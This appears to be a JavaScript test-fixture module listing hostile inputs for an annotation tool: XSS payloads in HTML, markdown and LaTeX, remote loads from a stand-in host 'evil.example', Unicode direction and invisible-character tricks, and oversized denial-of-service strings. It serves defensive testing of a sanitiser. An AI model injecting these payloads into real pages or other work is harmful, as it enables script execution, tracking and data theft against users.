// Texts that a model, or somebody who wants to harm, may put before an annotator. `kind` says what each tries.
const run = 'window.__ran=1';

const MARKUP = [
    `<script>${run}</script>`, `<ScRiPt src=//evil.example/x.js></sCrIpT>`, `<img src=x onerror=${run}>`, `<img src="https://evil.example/p.png">`,
    `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
    `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`, `<object data="javascript:${run}"></object>`, `<embed src=//evil.example/x.swf>`,
    `<a href="javascript:${run}">press me</a>`, `<a href="data:text/html,<script>${run}</script>">press</a>`, `<form action=//evil.example><button>Submit</button></form>`,
    `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`, `<details open ontoggle=${run}>`, `<video><source onerror=${run}></video>`,
    `<audio src=x onerror=${run}>`, `<body onload=${run}>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import '//evil.example/x.css';*{display:none}</style>`,
    `<meta http-equiv=refresh content="0;url=//evil.example">`, `<base href=//evil.example/>`, `<marquee onstart=${run}>moving</marquee>`, `<template><img src=x onerror=${run}></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<!--><img src=x onerror=${run}>-->`, `<![CDATA[<img src=x onerror=${run}>]]>`, `<?xml version="1.0"?><x onload=${run}/>`,
    `<div style="background:url(//evil.example/b.png)">styled</div>`, `<div style="position:fixed;inset:0;z-index:99999">covered</div>`, `<p class="answer given">already answered</p>`,
    `<button class="answer" onclick=${run}>A much better</button>`, `"><script>${run}</script>`, `'-${run}-'`, `</textarea><script>${run}</script>`, `</title><script>${run}</script>`,
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${run}//'>`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `<%= ${run} %>`,
    `<x onclick=${run} style=display:block>press here</x>`, `<a href=" javascript:${run}">space</a>`, `<a href="jav&#x09;ascript:${run}">tab</a>`, `<img src=\`x\` onerror=${run}>`,
    `<img/src/onerror=${run}>`, `<svg/onload=${run}//`, `<<script>${run}//<</script>`, `<script\x20type="text/javascript">${run};</script>`, `<isindex action=javascript:${run} type=image>`,
    `<table background="javascript:${run}"><tr><td>cell`, `<keygen autofocus onfocus=${run}>`, `<dialog open>modal</dialog>`, `<portal src=//evil.example>`, `<slot name=x onslotchange=${run}>`,
];

const MARKDOWN = [
    `[press](javascript:${run})`, `[press](JaVaScRiPt:${run})`, `[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==)`, `[press](vbscript:msgbox)`, `[press](//evil.example)`,
    `![pixel](https://evil.example/p.png)`, `![pixel](https://evil.example/p.png "title")`, `[![nested](https://evil.example/a.png)](https://evil.example/b)`, `![x][ref]\n\n[ref]: https://evil.example/r.png`, `[ref]\n\n[ref]: javascript:${run}`,
    `<https://evil.example/auto>`, `https://evil.example/bare`, `www.evil.example`, `<javascript:${run}>`, `mailto:someone@evil.example`,
    `[a](<javascript:${run}>)`, `[a](java\nscript:${run})`, `[a]( javascript:${run} )`, `[a](javascript&colon;${run})`, `[a](&#106;avascript:${run})`,
    `[a](x "onmouseover=${run}")`, `[a](x 'title" onmouseover="${run}')`, `![a" onerror="${run}](x)`, '```html\n<script>window.__ran=1</script>\n```', '`<script>window.__ran=1</script>`',
    '```js" onmouseover="window.__ran=1\ncode\n```', '~~~\nnever closed <script>', '```never closed', '**never closed', '[never closed](', '![never closed', '| a | b\n|--', '|a|\n|-|\n' + '|row|\n'.repeat(300),
    '|' + 'c|'.repeat(400) + '\n|' + '-|'.repeat(400) + '\n|' + 'd|'.repeat(400), '> '.repeat(2000) + 'deep quote', '- '.repeat(500) + 'deep list', '  '.repeat(300) + '- far in', '#'.repeat(50) + ' many', '# heading <img src=x onerror=window.__ran=1>',
    '1. one\n999999999999. far\n-1. minus', '- [x] <script>window.__ran=1</script>', '***___~~~```all at once', '\\<script>escaped\\</script>', '&lt;script&gt;window.__ran=1&lt;/script&gt;', '&#60;script&#62;window.__ran=1&#60;/script&#62;',
    'line\u2028separator\u2029paragraph', 'a\u0085b next line', '[^1]: footnote <script>\n\ntext[^1]', ':smile: :skull:', '<details><summary>fold</summary>hidden words</details>', '<!-- comment with words -->visible', '---\ntitle: front matter\n---\nbody',
    'setext\n=====\nand\n-----', '* * *\n***\n___', 'hard  \nbreak\\\nbreak', '[x]: # (hidden comment words)\n\nseen',
];

const UNICODE = [
    'safe \u202egnp.exe\u202c end', '\u2066isolated\u2069 words', '\u2067right isolate\u2069', '\u2068first strong\u2069', '\u202aembedded\u202c', '\u202bembedded\u202c', '\u202doverridden\u202c', 'unclosed \u202e override to the very end', '\u200emarks\u200f and \u061c',
    'ze\u200bro wi\u200bdth', 'join\u2060er', '\ufeffmark at the beginning', 'invisible\u2061function\u2062times\u2063comma\u2064plus', 'soft\u00adhyphen', '\u{e0001}\u{e0068}\u{e0069}\u{e0064}\u{e0064}\u{e0065}\u{e006e} tags', 'inter\ufff9linear\ufffaanno\ufffbtation', 'filler\u3164here\u115fand\u1160there\uffa0',
    'variation\ufe0f selectors\u{e0100}', 'می\u200cخواهم نیم\u200cفاصله', 'क्\u200dष ज़ीरो', '👩\u200d👩\u200d👧\u200d👦 family', 'Z\u0351\u036b\u0343a\u0357\u0301l\u0300g\u0301o'.repeat(20), 'a' + '\u0301'.repeat(5000) + ' combining', 'ﷺ﷽𒐫 wide', '𝕸𝖆𝖙𝖍 letters', 'раура1 homoglyph', 'line\rreturn', 'tab\tand\u000bvertical\u000cfeed',
    '\u0007bell \u001b[31mred\u001b[0m escape', '\u007fdelete', '\ue000 private use', '\u{10ffff} last', '\ufffd replaced', 'ＦＵＬＬ ｗｉｄｔｈ', '١٢٣٤ digits', 'עברית mixed with English and عربي together', 'emoji 🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f} flag', 'ligature ﬁ ﬂ', 'ǅ ß ſ İ ı case', '\u1680\u2000\u2003\u202f\u205f\u3000spaces',
];

const HUGE = [
    'word '.repeat(40_000), 'x'.repeat(200_000), 'line\n'.repeat(20_000), '\n'.repeat(50_000) + 'after nothing', '*'.repeat(50_000), '_'.repeat(50_000), '['.repeat(20_000), '`'.repeat(20_001), '<'.repeat(50_000), '&'.repeat(50_000), '('.repeat(20_000), '!['.repeat(10_000), '#\n'.repeat(5_000), '- a\n'.repeat(5_000), '> a\n\n'.repeat(4_000),
    '1. a\n'.repeat(5_000), '| a | b |\n'.repeat(3_000), '**a** '.repeat(10_000), '[a](b) '.repeat(5_000), '\\'.repeat(50_000), 'a@b.c '.repeat(5_000), 'http://a.b/ '.repeat(5_000), '*a '.repeat(10_000), '**a *b '.repeat(5_000), '😀'.repeat(30_000), 'ا'.repeat(100_000), ' '.repeat(100_000) + 'x', '\t'.repeat(20_000) + 'x', '~~a '.repeat(10_000), '&amp;'.repeat(20_000),
];

const MATHS = [
    '$\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\a$', '$$' + '\\frac{1}{'.repeat(500) + '1' + '}'.repeat(500) + '$$', '$' + '{'.repeat(5000) + '$', '$\\rule{99999em}{99999em}$', '$\\href{javascript:window.__ran=1}{press}$', '$\\includegraphics{https://evil.example/x.png}$', '$\\htmlData{x=y}{z}$', '\\(\\unicode{x3C}script\\)', '$\\newcommand{\\x}{\\x\\x}\\x$',
    '\\[' + 'x^'.repeat(3000) + '1\\]', '$' + '\\sqrt'.repeat(2000) + '{1}$', '$\\color{red}\\colorbox{blue}{text}$', '$\\text{<img src=x onerror=window.__ran=1>}$', '$1 and $2 cost money', '$$$$$$$$', '$\\begin{matrix}' + '1 & '.repeat(3000) + '\\end{matrix}$', '$\\class{answer given}{x}$', '$\\cssId{question}{x}$', '$\\style{position:fixed}{x}$', '$\\verb|<script>|$',
];

// The beginning of each of the first two again around ordinary words, as a model would write them.
const WOVEN = [...MARKUP, ...MARKDOWN].filter((_, i) => i % 2 === 0).map((text, i) => `An answer of ordinary words ${i}.\n\n${text}\n\nAnd it goes on **after** that.`);

export const HOSTILE = Object.entries({ markup: MARKUP, markdown: MARKDOWN, unicode: UNICODE, huge: HUGE, maths: MATHS, woven: WOVEN })
    .flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })));

// Short enough for a name.
export const HOSTILE_NAMES = HOSTILE.map(({ text }) => text).filter((text) => [...text].length <= 150 && !/[\n\r\u0000-\u001f]/.test(text) && text.trim() !== '');
